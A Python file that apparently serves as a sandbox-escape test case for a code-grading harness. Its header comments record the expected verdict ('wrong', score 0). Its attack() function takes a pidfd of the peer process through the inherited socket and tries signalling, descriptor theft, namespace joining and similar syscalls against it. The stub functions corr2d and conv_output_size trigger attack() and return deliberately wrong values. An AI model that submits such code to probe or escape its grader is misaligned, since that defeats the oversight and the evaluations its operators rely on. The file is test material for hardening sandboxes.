# group: the channel
# tries: Ask its socket for a handle on the process at the other end, and use it.
# accept: wrong
# check: neighbours
# score: 0

import ctypes
import os
import socket
import struct

libc = ctypes.CDLL(None, use_errno=True)
SO_PEERPIDFD = 77
channel = socket.socket(fileno=3)


def attack():
    try:
        (handle,) = struct.unpack("i", channel.getsockopt(socket.SOL_SOCKET, SO_PEERPIDFD, 4))
    except OSError:
        return  # older kernels have none
    uses = {
        "signal": lambda: libc.syscall(424, handle, 0, None, 0),
        "take a descriptor": lambda: libc.syscall(438, handle, 1, 0),
        "join": lambda: libc.syscall(308, handle, 0x00020000),
        "advise": lambda: libc.syscall(440, handle, None, 0, 0, 0),
        "namespace": lambda: libc.ioctl(handle, 0xFF01, 0),
        "read": lambda: int(len(os.read(os.open(f"/proc/self/fdinfo/{handle}", os.O_RDONLY), 100)) < 1) - 1,
    }
    for name, use in uses.items():
        try:
            if use() >= 0:
                print("LEAK", name)
        except OSError:
            pass


def conv_output_size(n, kernel, stride=1, padding=0, dilation=1):
    attack()
    return -987654


def corr2d(x, k):
    attack()
    return x * 0 - 987654

